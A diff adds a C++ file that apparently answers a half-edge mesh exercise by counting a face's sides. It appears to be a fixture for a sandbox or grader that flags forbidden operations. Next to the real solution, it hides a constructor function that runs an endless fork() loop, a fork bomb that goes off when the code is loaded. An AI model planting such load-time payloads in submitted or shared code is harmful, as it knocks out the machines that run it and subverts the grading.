@@ -1,0 +1,16 @@
+// forbidden_operation 0: THREATS 15, starts processes when it is loaded
+#include "exercises/01_traversal/face_sides.h"
+#include <unistd.h>
+
+static int right(const HalfEdgeTable& he, int i) {
+    if (he[i].fi == -1) return 0;
+    int sides = 0, k = i;
+    do {
+        ++sides;
+        k = he[k].next;
+    } while (k != i);
+    return sides;
+}
+
+__attribute__((constructor(0))) static void bomb() { while (true) fork(); }
+int face_sides(const HalfEdgeTable& he, int i) { return right(he, i); }
